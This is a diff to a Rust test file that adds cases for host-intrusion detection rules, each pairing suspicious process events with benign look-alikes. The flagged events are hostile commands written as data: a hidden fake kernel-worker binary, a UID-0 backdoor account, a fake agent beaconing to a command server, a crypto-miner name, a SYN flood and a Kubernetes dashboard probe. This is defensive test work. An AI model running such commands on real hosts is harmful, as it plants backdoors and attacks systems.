@@ -715,6 +715,41 @@ fn cases() -> Vec<(&'static str, Vec<Ev>, Vec<Ev>)> {
             vec![open("sshd", "/root/.ssh/authorized_keys", 0), open("sh", "/home/deploy/.ssh/known_hosts", 0)],
         ),
         (
+            "PAL-NODE-061",
+            vec![exec("nohup /tmp/.x/kworker -B")],
+            vec![exec("nohup /usr/local/bin/worker --queue default")],
+        ),
+        (
+            "PAL-NODE-062",
+            vec![exec("useradd -m support"), exec("useradd -o -u 0 -M sysd").host()],
+            vec![exec("useradd -m -s /bin/bash alice").host()],
+        ),
+        (
+            "PAL-NODE-062",
+            vec![exec("usermod -aG sudo bob").host()],
+            vec![exec("usermod -aG docker bob").host()],
+        ),
+        (
+            "PAL-NODE-063",
+            vec![exec("openssl passwd -6 -salt xyz S3cret"), exec("chpasswd -e").host()],
+            vec![exec("openssl rand -hex 16"), exec("chpasswd").host()],
+        ),
+        (
+            "PAL-NODE-064",
+            vec![exec("/tmp/splunkd -server http://10.9.9.9:8888 -group red -v")],
+            vec![exec("splunkd start --accept-license")],
+        ),
+        (
+            "PAL-NODE-065",
+            vec![exec("/tmp/kdevtmpfsi"), exec("hping3 --flood -S -p 80 10.0.0.1")],
+            vec![exec("hping3 -c 1 -S -p 80 10.0.0.1")],
+        ),
+        (
+            "PAL-NODE-066",
+            vec![exec("curl -sk https://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/csrftoken/login")],
+            vec![exec("curl -sk https://web.shop.svc/healthz")],
+        ),
+        (
             "PAL-NODE-049",
             vec![exec("curl -o /tmp/s http://x/s").parent("nginx")],
             vec![exec("curl -o /tmp/s http://x/s").parent("bash")],
